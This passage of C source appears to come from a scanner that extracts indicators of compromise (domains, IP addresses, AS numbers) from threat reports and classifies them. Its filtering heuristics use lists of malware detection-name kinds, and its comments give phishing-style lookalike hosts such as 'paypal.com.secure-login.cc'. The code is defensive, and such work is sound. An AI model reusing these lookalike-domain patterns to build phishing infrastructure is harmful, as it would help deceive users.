		ioc->length = b - a;
		ioc->defanged = 0;
		return;
	}
	k = edit_after(sc, a);
	ioc->offset = sc->base + in_offset(sc, a, k);
	ioc->defanged = rewrite_before(sc, k, b);
	/* The end: the edits after a's, a step or two on. */
	pb = b < sc->text.len ? b : b - 1;
	for (kb = k; kb < sc->nedits && sc->edits[kb].out +
	    sc->edits[kb].outlen <= pb; kb++)
		;
	/* At the text's end, b - 1 may lie in a rewrite: all of it */
	if (pb != b && kb < sc->nedits && sc->edits[kb].out <= pb)
		end = sc->edits[kb].in + sc->edits[kb].inlen;
	else
		end = in_offset(sc, pb, kb) + (pb != b);
	ioc->length = sc->base + end - ioc->offset;
}

/*
 * The class of an AS number (IANA's special-purpose AS numbers): RFC
 * 5398's for documentation, RFC 6996's for private use, and those
 * reserved: 0 (RFC 7607), AS_TRANS 23456 (RFC 6793), 65535 and
 * 4294967295 (RFC 7300), 65552-131071.
 */
static enum ioc_class
class_asn(unsigned long long v)
{
	if ((v >= 64496 && v <= 64511) || (v >= 65536 && v <= 65551))
		return IOC_DOCUMENTATION;
	if ((v >= 64512 && v <= 65534) ||
	    (v >= 4200000000ULL && v <= 4294967294ULL))
		return IOC_PRIVATE;
	if (v == 0 || v == 23456 || v == 65535 || v == 4294967295ULL ||
	    (v >= 65552 && v <= 131071))
		return IOC_RESERVED;
	return IOC_PUBLIC;
}

/* name (n bytes) is d (m bytes) or a name under it. */
static int
name_under(const char *name, size_t n, const char *d, size_t m)
{
	return n >= m && (n == m || name[n - m - 1] == '.') &&
	    memcmp(name + n - m, d, m) == 0;
}

/*
 * The class of a name (a lowercase A-label, n bytes), as an address's:
 * RFC 2606's example.com, .net and .org and the names under them are
 * for documentation, as 192.0.2.0/24 is; RFC 8375's home.arpa is a home
 * network's, private; a reverse zone's that names no network
 * (arpa_network) is reserved. (.example, .test, .invalid and .local
 * are no public suffix: no indicator at all.)
 */
static enum ioc_class
class_dns(const char *name, size_t n)
{
	const char *tld;

	/* the label boundary first, one byte, then "example." once: three
	 * name_under calls cost +0.6% instructions at 1 MB (measured) */
	if (n >= 11 && (n == 11 || name[n - 12] == '.') &&
	    memcmp(name + n - 11, "example.", 8) == 0 &&
	    (tld = name + n - 3, memcmp(tld, "com", 3) == 0 ||
	    memcmp(tld, "net", 3) == 0 || memcmp(tld, "org", 3) == 0))
		return IOC_DOCUMENTATION;
	if (n < 5 || memcmp(name + n - 5, ".arpa", 5) != 0)
		return IOC_PUBLIC;
	if (name_under(name, n, "home.arpa", 9))
		return IOC_PRIVATE;
	if (name_under(name, n, "in-addr.arpa", 12) ||
	    name_under(name, n, "ip6.arpa", 8))
		return IOC_RESERVED;
	return IOC_PUBLIC;
}

/* Emit one indicator for refanged text[a..b). A name's class is its
 * own (class_dns), whatever class says: no caller need know it. */
static void
emit(struct ioc_scanner *sc, enum ioc_type type, const char *value,
    size_t a, size_t b, enum ioc_class class)
{
	struct ioc ioc;
	unsigned k;

	if (sc->stop)
		return;
	if (type == IOC_DOMAIN)
		class = class_dns(value, value == sc->value.data ?
		    sc->value.len : strlen(value));
	ioc.type = type;
	ioc.value = value;
	ioc.class = class;
	input_span(sc, a, b, &ioc);
	ioc.defanged |= sc->fanged;
	k = sc->memo_want ? sc->memo_emits++ : 2;
	if (k < 2 && sc->memo_admit && memo_room(sc->set))
		/* it may be remembered: its entry now */
		sc->memo_idx[k] = set_add_at_once(sc->set, &ioc, sc->al);
	else if (sc->set)
		ioc_set_add(sc->set, &ioc, sc->al);
	else
		sc->stop = sc->fn(&ioc, sc->arg);
}

/* A dotted-quad at s (n bytes): the bytes it takes, 0 if none. */
static size_t
parse_ipv4(const char *s, size_t n, uint32_t *addr)
{
	size_t i = 0, digits;
	uint32_t v = 0, octet;
	int part;

	for (part = 0; part < 4; part++) {
		if (part > 0) {
			if (i >= n || s[i] != '.')
				return 0;
			i++;
		}
		for (digits = 0, octet = 0; i < n && s[i] >= '0' && s[i] <= '9' &&
		    digits < 4; i++, digits++)
			octet = octet * 10 + (uint32_t)(s[i] - '0');
		if (digits == 0 || digits > 3 || octet > 255)
			return 0;
		v = v << 8 | octet;
	}
	*addr = v;
	return i;
}

/*
 * Whether the dotted quad s (n bytes, as parse_ipv4 took it) is a sum
 * written with dots between its thousands, as most of Europe and Latin
 * America write them: "2.100.000.000 euros", "R$ 1.200.150.000". A
 * first group without a leading zero, then three groups of three
 * digits, the last "000". An address padded with zeros starts with one
 * ("010.000.000.001"); a host's address seldom ends in ".0".
 */
static int
thousands(const char *s, size_t n)
{
	const char *dot = memchr(s, '.', n);

	return dot != NULL && s[0] != '0' && n - (size_t)(dot - s) == 12 &&
	    memcmp(s + n - 4, ".000", 4) == 0;
}

/* "a.b.c.d" of a into v (16 bytes); returns the end. */
static char *
format4(char *v, uint32_t a)
{
	unsigned char p[4] = { a >> 24, a >> 16 & 255, a >> 8 & 255, a & 255 };

	return ipaddr_format4(p, v);
}

/* "/bits" at v. */
static void
format_bits(char *v, size_t bits)
{
	char d[4], *p = d + sizeof(d);

	*v++ = '/';
	do
		*--p = (char)('0' + bits % 10);
	while ((bits /= 10) != 0 && p > d);
	memcpy(v, p, (size_t)(d + sizeof(d) - p));
	v[d + sizeof(d) - p] = '\0';
}

static enum ioc_class
class4(uint32_t a)
{
	if ((a >> 24) == 10 || (a >> 20) == 0xac1 || (a >> 16) == 0xc0a8 ||
	    (a >> 22) == (100u << 2 | 1))	/* 100.64/10, shared */
		return IOC_PRIVATE;
	if ((a >> 24) == 127)
		return IOC_LOOPBACK;
	if ((a >> 16) == 0xa9fe)
		return IOC_LINK_LOCAL;
	if ((a >> 8) == 0xc00002 || (a >> 8) == 0xc63364 || (a >> 8) == 0xcb0071)
		return IOC_DOCUMENTATION;
	if ((a >> 28) == 0xe)
		return IOC_MULTICAST;
	if ((a >> 24) == 0 || (a >> 28) == 0xf || (a >> 8) == 0xc00000 ||
	    (a >> 17) == (0xc612 >> 1))	/* 0/8, 240/4, 192.0.0/24, 198.18/15 */
		return IOC_RESERVED;
	return IOC_PUBLIC;
}

/*
 * The class of an IPv6 address (IANA's special-purpose registry). An
 * IPv4-mapped address, ::ffff:0:0/96, one behind NAT64's well-known
 * prefix, 64:ff9b::/96 (RFC 6052), and 6to4's, 2002::/16, are the IPv4
 * host's: its class.
 * NAT64's local-use prefix, 64:ff9b:1::/48 (RFC 8215), is private; the
 * documentation prefixes are 2001:db8::/32 and 3fff::/20 (RFC 9637);
 * benchmarking's 2001:2::/48 is reserved, as 198.18.0.0/15 is.
 */
static enum ioc_class
class6(const unsigned char *b)
{
	static const unsigned char nat64[4] = { 0, 0x64, 0xff, 0x9b };
	static const unsigned char zero[15];
	unsigned char v4[4];

	if (memcmp(b, zero, 15) == 0)
		return b[15] == 1 ? IOC_LOOPBACK : IOC_RESERVED;
	if (ipaddr_embedded4(b, v4))
		return class4((uint32_t)v4[0] << 24 | (uint32_t)v4[1] << 16 |
		    (uint32_t)v4[2] << 8 | v4[3]);
	if ((b[0] & 0xfe) == 0xfc || (memcmp(b, nat64, 4) == 0 &&
	    b[4] == 0 && b[5] == 1))
		return IOC_PRIVATE;
	if (b[0] == 0xfe && (b[1] & 0xc0) == 0x80)
		return IOC_LINK_LOCAL;
	if ((b[0] == 0x20 && b[1] == 0x01 && b[2] == 0x0d && b[3] == 0xb8) ||
	    (b[0] == 0x3f && b[1] == 0xff && (b[2] & 0xf0) == 0))
		return IOC_DOCUMENTATION;
	if (b[0] == 0x20 && b[1] == 0x01 && b[2] == 0 && b[3] == 2 &&
	    b[4] == 0 && b[5] == 0)
		return IOC_RESERVED;
	if (b[0] == 0xff)
		return IOC_MULTICAST;
	if ((b[0] & 0xe0) != 0x20)	/* outside 2000::/3 */
		return IOC_RESERVED;
	return IOC_PUBLIC;
}

/* 1 when the n bytes at w are one of the words of list (NULL-ended);
 * the first byte is compared before a call, since these lists are asked
 * about each new name. */
static int
listed(const char *w, size_t n, const char *const list[])
{
	size_t i;

	for (i = 0; list[i]; i++)
		if (list[i][0] == w[0] && strncmp(list[i], w, n) == 0 &&
		    list[i][n] == '\0')
			return 1;
	return 0;
}

/*
 * TLDs that are also common file extensions: "install.sh", "README.md",
 * "Makefile.am", a Log4Shell kit's "Exploit.java", "log4j.properties",
 * a OneNote lure's "invoice.one", "update.cab", Terraform's "main.tf",
 * Perl's "Module.pm", Apps Script's "Code.gs" are files, not hosts,
 * unless the text says host (a URL, an address, "www.", or defanged
 * writing).
 */
static int
file_like_tld(const char *tld)
{
	static const char *const ext[] = {
		"zip", "mov", "py", "sh", "pl", "rs", "md", "ps", "cc", "so",
		"in", "am", "ac", "sb", "cs", "java", "properties", "cab",
		"one", "tf", "pm", "gs", NULL,
	};

	return listed(tld, strlen(tld), ext);
}

/*
 * Whether name, under a file's extension (file_like_tld; tld its last
 * label), is written as no file's is, so a host all the same: under a
 * public suffix of two labels or more (Poland's "allegro-login.com.pl",
 * India's "sbi-login.co.in", "gov.pl"'s, "ac.in"'s), with a label in
 * IDNA ("xn--"), or with a "com", "net" or "org" of its own before the
 * label before tld, a brand's name made the start of another
 * ("paypal.com.secure-login.cc"; "example.com.zip", a site's archive,
 * stays a file, and so does a package's "com.example.app.sh"), or with
 * three labels or more, the first a server's that no file's name starts
 * with ("login.mbank.pl", "mail.evil.in", "cdn.evil.cc"; a test's
 * "login.test.py" stays a file).
 */
static int
file_tld_host(const struct ioc_scanner *sc, const char *name,
    const char *tld)
{
	static const char *const servers[] = {
		"mail", "webmail", "login", "secure", "signin", "verify",
		"portal", "smtp", "mx", "ns1", "ns2", "vpn", "cdn", NULL,
	};
	static const char *const file_words[] = {	/* "login.test.py" */
		"test", "tests", "spec", "min", "config", "conf", "local",
		"example", "sample", "orig", "bak", "old", "dist", "tmpl", NULL,
	};
	const char *suffix = psl_unregistrable_domain(sc->psl, name);
	const char *p, *e;

	if (suffix != NULL && suffix < tld)
		return 1;
	if ((e = strchr(name, '.')) != NULL && e + 1 < tld &&
	    listed(name, (size_t)(e - name), servers)) {
		for (p = e + 1; p < tld; p = e + 1) {
			e = strchr(p, '.');
			if (listed(p, (size_t)(e - p), file_words))
				return 0;
		}
		return 1;
	}
	for (p = name; p < tld; p = e + 1) {
		e = strchr(p, '.');
		if (strncmp(p, "xn--", 4) == 0 || (p > name &&
		    e - p == 3 && e + 1 < tld &&
		    (strncmp(p, "com", 3) == 0 || strncmp(p, "net", 3) == 0 ||
		    strncmp(p, "org", 3) == 0)))
			return 1;
	}
	return 0;
}

/*
 * Names that read as a script's property access ("this.name",
 * "user.id", "window.top", "el.style", "console.info", "location.host")
 * or a field of an IDS rule or a log ("http.host", "tls.sni"):
 * an object scripts name all the time, and a property that is also a
 * real suffix. Like a file, such a name is a host only where the text
 * says host (a URL, an address, defanged writing). Others of the
 * same objects stay hosts ("file.io", "data.ru"). This: whether tld is
 * such a property (code_object: the object).
 */
static int
prop_tld(const char *tld)
{
	static const char *const props[] = {
		"name", "id", "info", "top", "link", "app", "style", "page",
		"text", "host", "search", "email", "date", "day", "post", "run",
		NULL,
	};

	return listed(tld, strlen(tld), props);
}

/* The object of such a name (prop_tld's): name's label before tld. */
static int
code_object(const char *name, const char *tld)
{
	static const char *const objects[] = {
		"this", "self", "window", "document", "console", "navigator",
		"location", "parent", "e", "el", "err", "obj", "item", "user",
		"row", "node", "elem", "event", "evt", "props", "state",
		"options", "opts", "ctx", "params", "args", "req", "res",
		"request", "response", "target", "module", "process",
		"config", "cfg", "conf", "settings", "env", "server", "client",
		"url", "uri", "data", "http", "dns", "tls", "file", NULL,
	};

	return listed(name, (size_t)(tld - 1 - name), objects);
}

/*
 * An address with octets masked, as a report redacts one
 * ("198.51.100.xxx", "198.51.xxx.xxx"; .xxx is a real suffix): three or
 * four labels (of a checked name: lowercase, none empty), each a number
 * up to 255 or x's; such a name is none, wherever it stands ("69.xxx"
 * may be one). (Its last label is x's: domain_check refuses a number
 * for a TLD.)
 */
static int
masked_address(const char *name)
{
	const char *p = name;
	size_t labels = 0, k;

	for (;;) {
		k = strcspn(p, ".");
		if (strspn(p, "x") != k && (k > 3 ||
		    digits_at(p) != k || atoi(p) > 255))
			return 0;
		labels++;
		if (p[k] == '\0')
			return labels >= 3 && labels <= 4;
		p += k + 1;
	}
}

/*
 * A name in reverse-DNS order, an Android app's or a Java package's
 * ("com.example.app", "com.bank.mobile", "org.mozilla.firefox"; .app,
 * .mobile are real suffixes): three labels or more, the first "com" or
 * "org", as no host's is ("net.", "io.", "edu." start some). Like a
 * file, such a name is a host only where the text says host.
 */
static int
reverse_dns_name(const char *name)
{
	static const char *const tops[] = {
		"com.", "org.", NULL,	/* not "net.", "io.": hosts' too */
	};
	size_t i;

	for (i = 0; tops[i]; i++)
		if (strncmp(name, tops[i], strlen(tops[i])) == 0)
			return strchr(name + strlen(tops[i]), '.') != NULL;
	return 0;
}

/* A capitalized word at s (n bytes): a capital, then small letters or
 * digits, one at least. */
static int
capitalized(const char *s, size_t n)
{
	size_t i;

	if (n < 2 || !(s[0] >= 'A' && s[0] <= 'Z') ||
	    !(s[1] >= 'a' && s[1] <= 'z'))
		return 0;
	for (i = 2; i < n; i++)
		if (!(s[i] >= 'a' && s[i] <= 'z') &&
		    !(s[i] >= '0' && s[i] <= '9'))
			return 0;
	return 1;
}

/*
 * Whether the suffix of the name s (n bytes) is a capitalized word (not
 * one of the suffixes people have long written capitalized, "Google.Com",
 * "Bank.Cn": the old ones and two letters), whatever the labels before
 * it: capitalized words ("Report.Date", "Console.Info", "Order.Total": a
 * document's field or a program's property), a program's names in any
 * case ("WScript.Shell", "ADODB.Stream": a script's COM objects), small
 * letters ("this.Best regards", "we blocked it.Today": a sentence's end,
 * its blank left out). Not a host, unless the text says host: a host is
 * written in lower case, in capitals ("EVIL.COM"), or capitalized where
 * a sentence starts ("Evil.com").
 */
static int
capitalized_labels(const char *s, size_t n)
{
	static const char *const old[] = {
		"com", "net", "org", "edu", "gov", "mil", "int", NULL,
	};
	const char *tld = memrchr(s, '.', n);
	size_t i, k;

	if (tld == NULL || (k = n - (size_t)(tld + 1 - s)) <= 2 ||
	    !capitalized(tld + 1, k))
		return 0;
	for (i = 0; k == 3 && old[i]; i++)
		if (strncasecmp(tld + 1, old[i], 3) == 0)
			return 0;
	return 1;
}

/* Whether the name s (n bytes) is written as Microsoft's frameworks
 * are, "ASP.NET", "VB.NET", "ADO.NET", "ML.NET", or .NET's namespace
 * "System.Net" (a PowerShell loader's classes): a web shell's or a
 * deserialization flaw's platform in an advisory, not the hosts
 * asp.net and vb.net, unless the text says host. */
static int
framework_name(const char *s, size_t n)
{
	static const char *const names[] = {
		"ASP", "VB", "ADO", "ML", NULL,
	};
	size_t i;

	if (n == 10 && memcmp(s, "System.Net", 10) == 0)
		return 1;
	if (n < 6 || memcmp(s + n - 4, ".NET", 4) != 0)
		return 0;
	for (i = 0; names[i]; i++)
		if (strlen(names[i]) == n - 4 &&
		    memcmp(s, names[i], n - 4) == 0)
			return 1;
	return 0;
}

/* 1 when s (n bytes) is one of list's words, in any case. */
static int
word_in(const char *s, size_t n, const char *const *list)
{
	for (; *list; list++)	/* the first byte before any call */
		if (((*list)[0] | 0x20) == (s[0] | 0x20) &&
		    strlen(*list) == n && strncasecmp(s, *list, n) == 0)
			return 1;
	return 0;
}

/*
 * Whether the name (lowercase, ascii) is an antivirus engine's name of
 * what it detected, as a scan's list of them writes it: a kind of
 * malware and a platform, either way round, then a family and a
 * variant, "Trojan-Spy.Win32.Agent.co", "Backdoor.Linux.Gafgyt.bj",
 * "Win32.Trojan.Agent.Ws", whose variants are ccTLDs; or a kind and a
 * code in capitals, "Trojan.TR/Crypt.XPACK.Gen". Engines write the
 * first word with a capital (s, n as written): "trojan.win32.evil.me"
 * is a host. Not a host, unless the text says host.
 */
static int
detection_name(const char *name, const char *s, size_t n)
{
	static const char *const kinds[] = {
		"backdoor", "worm", "virus", "exploit", "hacktool",
		"risktool", "adware", "not-a-virus", "downloader", "dropper",
		"rootkit", "bootkit", "spyware", "ransom", "virtool", "pua",
		"pup", "pswtool", "remoteadmin", "webtoolbar",
		"flooder", "spoofer", "dialer", "hoax", "malware", "heur",
		"riskware", NULL,
	};
	static const char *const platforms[] = {
		"win32", "win64", "w32", "w64", "win", "msil", "dotnet",
		"androidos", "android", "andr", "linux", "unix", "osx",
		"macos", "macosx", "ios", "iphoneos", "js", "vbs", "vba",
		"html", "script", "pdf", "java", "multi", "php", "python",
		"perl", "shell", "bat", "nsis", "autoit", "w97m", "o97m",
		"x97m", "msoffice", "msexcel", "msword", "office",
		"powershell", "symbos", "j2me", "elf", "swf", "boot", "dos",
		"bash", "ruby", "lua", "asp", NULL,
	};
	const char *d1 = strchr(name, '.'), *d2;
	size_t k1, k2;
	int kind1, kind2;

	if (!(s[0] >= 'A' && s[0] <= 'Z'))
		return 0;
	k1 = (size_t)(d1 - name);
	kind1 = strncmp(name, "trojan", 6) == 0 || (k1 > 5 &&
	    memcmp(d1 - 5, "-worm", 5) == 0) || word_in(name, k1, kinds);
	if ((d2 = strchr(d1 + 1, '.')) == NULL)	/* "Trojan.TR" */
		return kind1 && n > 2 && s[n - 1] >= 'A' && s[n - 1] <= 'Z' &&
		    s[n - 2] >= 'A' && s[n - 2] <= 'Z';
	k2 = (size_t)(d2 - d1 - 1);
	kind2 = strncmp(d1 + 1, "trojan", 6) == 0 ||
	    word_in(d1 + 1, k2, kinds);
	return (kind1 && word_in(d1 + 1, k2, platforms)) ||
	    (kind2 && word_in(name, k1, platforms));
}

/* 1 when s is ASCII letters, digits, hyphens and dots, with no
 * "xn--" in it (an A-label, which libidn2 must check). */
static int
plain_ascii(const char *s)
{
	const char *p;

	for (p = s; *p; p++) {
		if (!((*p >= 'a' && *p <= 'z') || (*p >= 'A' && *p <= 'Z') ||
		    (*p >= '0' && *p <= '9') || *p == '-' || *p == '.'))
			return 0;
		if (*p == '-' && p[1] == '-' && p - s >= 2 &&
		    (p[-1] | 0x20) == 'n' && (p[-2] | 0x20) == 'x')
			return 0;
	}
	return 1;
}

enum { TLD_PUBLIC = 1, TLD_FILE = 2, TLD_PROP = 4 };

/* What tld (a lowercase A-label) is: a public suffix the list names
 * (TLD_PUBLIC), a file's extension (file_like_tld), a script's
 * property (prop_tld). */
static int
tld_kind_of(const struct ioc_scanner *sc, const char *tld)
{
	return (psl_is_public_suffix2(sc->psl, tld, PSL_TYPE_ANY |
	    PSL_TYPE_NO_STAR_RULE) ? TLD_PUBLIC : 0) |
	    (file_like_tld(tld) ? TLD_FILE : 0) |
	    (prop_tld(tld) ? TLD_PROP : 0);
}

/* tld_kind_of, remembered: a report's thousands of names end in a few
 * dozen. */
static int
tld_kind(struct ioc_scanner *sc, const char *tld)
{
	size_t n = strlen(tld);
	struct tld_seen *e;

	if (n >= sizeof(e->tld))
		return tld_kind_of(sc, tld);
	e = &sc->tlds[digest_table_hash(tld, n, 0) % TLD_SEEN];
	if (strcmp(e->tld, tld) != 0) {
		memcpy(e->tld, tld, n + 1);
		e->kind = tld_kind_of(sc, tld);
	}
	return e->kind;
}

/* The hyphens that PDFs and word processors write (U+2010, U+2011; no
 * name may hold them) made '-' in the string s, in place. */
static void
ascii_hyphens(char *s)
{
	char *r, *w;

	if ((r = strchr(s, '\xe2')) == NULL)
		return;
	for (w = r; *r; r++) {
		if (r[0] == '\xe2' && r[1] == '\x80' && (r[2] == '\x90' ||
		    r[2] == '\x91')) {
			*w++ = '-';
			r += 2;
		} else {
			*w++ = *r;
		}
	}
	*w = '\0';
}

/* Normalize a host name into sc->value (lowercase A-labels): 1 when it
 * is a domain under a public suffix that the list names; 2 when it is
 * one only where the text says host (context: a file's name, code's, a
 * package's, ...), 0 when it is none (sc->value as it was, for both). */
static int
domain_check(struct ioc_scanner *sc, const char *s, size_t n, int context)
{
	char local[256], *in = local, *ascii = NULL, *tld, *p;
	size_t len, label = 0;
	int ok = 0, kind;

	if (n < sizeof(local)) {	/* a name's 253 bytes: no malloc */
		memcpy(local, s, n);
		local[n] = '\0';
	} else
		in = xstrndup(s, n);
	ascii_hyphens(in);
	if (plain_ascii(in)) {	/* no IDNA to do: lowercase it */
		ascii = in;
		for (p = ascii; *p; p++)
			if (*p >= 'A' && *p <= 'Z')
				*p = (char)(*p - 'A' + 'a');
	} else if (idn2_lookup_u8((const uint8_t *)in, (uint8_t **)&ascii,
	    IDN2_NFC_INPUT | IDN2_NONTRANSITIONAL) != IDN2_OK &&
	    idn2_lookup_u8((const uint8_t *)in, (uint8_t **)&ascii,
	    IDN2_NFC_INPUT | IDN2_TRANSITIONAL) != IDN2_OK) {
		goto out;
	}
	len = strlen(ascii);
	if (len < 4 || len > 253 || (tld = strrchr(ascii, '.')) == NULL)
		goto out;
	for (p = ascii; *p; p++) {
		if (*p == '.') {
			if (label == 0 || p[-1] == '-')
				goto out;
			label = 0;
		} else if (++label > 63 || (label == 1 && *p == '-') ||
		    !(sc->cls[(unsigned char)*p] & C_ALNUM ||
		    *p == '-' || *p == '_')) {
			goto out;	/* letters, digits, '-', DNS's '_' */
		}
	}
	tld++;
	if (digits_at(tld) == strlen(tld) ||
	    (tld[0] == 'x' && masked_address(ascii)) ||
	    !((kind = tld_kind(sc, tld)) & TLD_PUBLIC) ||
	    psl_is_public_suffix2(sc->psl, ascii, PSL_TYPE_ANY |
	    PSL_TYPE_NO_STAR_RULE))
		goto out;
	if (!context && (((kind & TLD_FILE) && strncmp(ascii, "www.", 4) !=
	    0 && !file_tld_host(sc, ascii, tld)) ||
	    ((kind & TLD_PROP) && code_object(ascii, tld)) ||
	    reverse_dns_name(ascii) || capitalized_labels(s, n) ||
	    (tld[0] == 'n' && framework_name(s, n)) ||
	    detection_name(ascii, s, n))) {
		ok = 2;
		goto out;
	}
	buf_reset(&sc->value);
	buf_addstr(&sc->value, ascii);
	ok = 1;
out:
	if (ascii != in)
		idn2_free(ascii);
	if (in != local)
		free(in);
	return ok;
}

/* The whole word w ends at t[k] ("resolver" does not end the word
 * "ver"). */
static inline int
word_before(const struct ioc_scanner *sc, size_t k, const char *w)
{
	size_t n = strlen(w);	/* (a literal's: known when inlined) */

	/* the last two bytes first: "src=" is no "boundary=", "the" no
	 * "table" (w is lowercase, two bytes or more; in UTF-8 too, a
	 * byte's bit 0x20 set on both sides) */
	return k >= n && (sc->text.data[k - 1] | 0x20) == (w[n - 1] | 0x20) &&
	    (sc->text.data[k - 2] | 0x20) == (w[n - 2] | 0x20) &&
	    strncasecmp(sc->text.data + k - n, w, n) == 0 &&
	    (k == n || !(sc->cls[(unsigned char)sc->text.data[k - n - 1]] &
	    C_ALNUM));
}

static size_t uni_sep(const char *t, size_t n, size_t i);

/* The word ending at t[k] in Chinese, Japanese or Korean says that a
 * version number follows: "版本" (and so "固件版本", "软件版本"),
 * "版本号", "版本为" and "版本是" (the version is), "固件", "升级至",
 * "升级到", "升级为" (upgrade to, as "upgrade to" is: an update of DNS
 * to an address names one), "バージョン", "バージョンは", "버전",
 * "버전은" (the version is); or with docs, a document's
 * numbering: "第1.2.3.4节", "表 1.2.3.4", "图 2.1.1.1", each a word of
 * its own, after punctuation too ("，表 2.1.1.1"; "IP列表 198.51.100.7"
 * lists an address), and "见表", "如表", "见图", "如图" (see the table,
 * as the figure shows) anywhere. Their words have no blank between
 * them, and no case: the bytes are compared. */
static int
cjk_version_word(const struct ioc_scanner *sc, size_t k, int docs)
{
	static const struct {
		const char *w;
		int docs;	/* 1: a document's word, alone; 2: anywhere */
	} words[] = {
		{ "版本", 0 }, { "版本号", 0 }, { "固件", 0 },
		{ "升级至", 0 }, { "升级到", 0 }, { "升级为", 0 },
		{ "版本为", 0 }, { "版本是", 0 }, { "版本号为", 0 },
		{ "版本号是", 0 }, { "バージョン", 0 }, { "バージョンは", 0 },
		{ "버전", 0 }, { "버전은", 0 },
		{ "见表", 2 }, { "如表", 2 }, { "见图", 2 }, { "如图", 2 },
		{ "第", 1 }, { "表", 1 }, { "图", 1 },
	};
	const char *t = sc->text.data;
	size_t i, n;

	if ((unsigned char)t[k - 1] < 0x80)
		return 0;
	for (i = 0; i < sizeof(words) / sizeof(words[0]); i++) {
		n = strlen(words[i].w);
		if (k >= n && (docs || !words[i].docs) &&
		    memcmp(t + k - n, words[i].w, n) == 0 &&
		    (words[i].docs != 1 ||
		    k == n || (unsigned char)t[k - n - 1] < 0x80 ||
		    (k >= n + 3 && uni_sep(t, sc->text.len, k - n - 3) == 3)))
			return 1;	/* "IP列表", "拓扑图": a list, a map;
					 * "，表 2.1.1.1": a table */
	}
	return 0;
}

/* The word ending at t[k] is "version" in a language whose word ends in
 * a letter outside ASCII, as another country's CERT or vendor writes
 * an advisory: Russian "версия", "версии" (and capitalized), Ukrainian
 * "версія", Turkish "sürümü", Hungarian "verzió", Arabic "الإصدار",
 * Persian "نسخه", Hebrew "גרסה", Thai "เวอร์ชัน"; or what the version is
 * of, as "firmware" and "software" are in English: Russian "ПО" and
 * "программного обеспечения" (software), "прошивки" (firmware), "ядра"
 * (the kernel's: "версия ядра 4.19.0.1"), Ukrainian "ПЗ" and
 * "забезпечення". (Those ending in ASCII, Spanish "versión", Polish
 * "wersja" ..., are version_word's.) */
static int
intl_version_word(const struct ioc_scanner *sc, size_t k)
{
	static const char *const words[] = {
		"версия", "версии", "версию", "версией", "Версия", "Версии",
		"версія", "версії", "Версія", "Версії", "sürümü", "verzió",
		"الإصدار", "إصدار", "نسخه", "גרסה", "เวอร์ชัน", "ПО",
		"обеспечения", "прошивки", "прошивка", "ядра", "ПЗ",
		"забезпечення", NULL,
	};
	size_t i;

	if ((unsigned char)sc->text.data[k - 1] < 0x80)
		return 0;
	for (i = 0; words[i]; i++)
		if (word_before(sc, k, words[i]))
			return 1;
	return 0;
}

#define VERSION_MAX 32	/* "8.5.3FP6": a version number's bytes, at most */

/* The whole word ending at t[k] is "upgrade", "upgraded" or
 * "upgrading". */
static int
upgrade_word(const struct ioc_scanner *sc, size_t k)
{
	return word_before(sc, k, "upgrade") ||
	    word_before(sc, k, "upgraded") || word_before(sc, k, "upgrading");
}

/* The whole word ending at t[k] is an upgrade's (upgrade_word) or an
 * update's: "update", "updated", "updating". */
static int
update_word(const struct ioc_scanner *sc, size_t k)
{
	return upgrade_word(sc, k) || word_before(sc, k, "update") ||
	    word_before(sc, k, "updated") || word_before(sc, k, "updating");
}

/* Past the word (letters, digits, '-', '.'; VERSION_MAX bytes at most)
 * that ends at t[k] and the blanks before it: where the word before it
 * ends; 0 when there is no word, no blank or nothing before them. */
static size_t
word_back(const struct ioc_scanner *sc, size_t k)
{
	const char *t = sc->text.data;
	size_t e = k, b;

	while (k > 0 && e - k < VERSION_MAX && ((sc->cls[(unsigned
	    char)t[k - 1]] & C_ALNUM) || t[k - 1] == '-' || t[k - 1] == '.'))
		k--;
	if (k == e)
		return 0;
	for (b = k; k > 0 && (t[k - 1] == ' ' || t[k - 1] == '\t'); k--)
		;
	return k == b ? 0 : k;
}

/* "9.16 9.16.4.42", "| 9.18 | 9.18.2.5 |": a release train, then a
 * release on it (t[a]), as an advisory's table of first fixed releases
 * lists them; t[k] ends what the blanks before t[a] follow. No address
 * follows its own first numbers so. */
static int
release_train(const struct ioc_scanner *sc, size_t k, size_t a)
{
	const char *t = sc->text.data;
	size_t b;

	if (k > 0 && t[k - 1] == '|')
		for (k--; k > 0 && (t[k - 1] == ' ' || t[k - 1] == '\t'); k--)
			;
	for (b = k; b > 0 && k - b < VERSION_MAX && ((sc->cls[(unsigned
	    char)t[b - 1]] & C_DIGIT) || t[b - 1] == '.'); b--)
		;
	return k - b >= 3 && a + (k - b) < sc->text.len && t[b] != '.' &&
	    t[k - 1] != '.' && (b == 0 || !(sc->cls[(unsigned
	    char)t[b - 1]] & C_ALNUM)) && memchr(t + b, '.', k - b) &&
	    memcmp(t + a, t + b, k - b) == 0 && t[a + (k - b)] == '.';
}

static int version_word(const struct ioc_scanner *sc, size_t k, int docs);

/* A version's word or key ending before the blanks before t[b], a
 * product's name: "Fixed versions: EPMM 12.1.0.4", "fixed in EPMM
 * 12.1.0.4" (vendor_product's words). */
static int
version_key_before(const struct ioc_scanner *sc, size_t b)
{
	const char *t = sc->text.data;
	size_t j = b;

	while (j > 0 && (t[j - 1] == ' ' || t[j - 1] == '\t'))
		j--;
	if (j > 0 && t[j - 1] == ':')
		for (j--; j > 0 && (t[j - 1] == ' ' || t[j - 1] == '\t'); j--)
			;
	else if (j == b)
		return 0;
	return version_word(sc, j, 0);
}

/* w[0..n) names an operating system by its maker's way of writing it:
 * "FortiOS", "PAN-OS", "NX-OS", "RouterOS", "SonicOS", "macOS" (a
 * word's "OS" after a small letter or a '-'). A number after one is its
 * release, not an address ("FortiOS 7.2.4.1"): a system is no host, as
 * a device may be ("FortiGate 198.51.100.7"). Not "DDoS", "CHAOS", "POS"
 * (a till, which has an address). */
static int
os_name(const char *w, size_t n)
{
	size_t i;

	if (n < 4 || w[n - 2] != 'O' || w[n - 1] != 'S' ||
	    !((w[n - 3] >= 'a' && w[n - 3] <= 'z') || w[n - 3] == '-'))
		return 0;
	for (i = 0; i < n - 3; i++)
		if (!((w[i] | 0x20) >= 'a' && (w[i] | 0x20) <= 'z') &&
		    w[i] != '-')
			return 0;
	return 1;
}

/*
 * A product's release after its vendor's name and its own, capitalized
 * words ending at t[k]: "Cisco ASA 9.18.2.5", "Ivanti EPMM 11.10.0.3",
 * "IBM WebSphere Application Server 8.5.5.24", "Veeam Backup &
 * Replication 12.1.2.172", "SonicWall SMA 100 10.2.1.9", or after a
 * version's word or key ("Fixed versions: EPMM 12.1.0.4"), or after an
 * operating system's name alone (os_name: "FortiOS 7.2.4.1"). Not a vendor
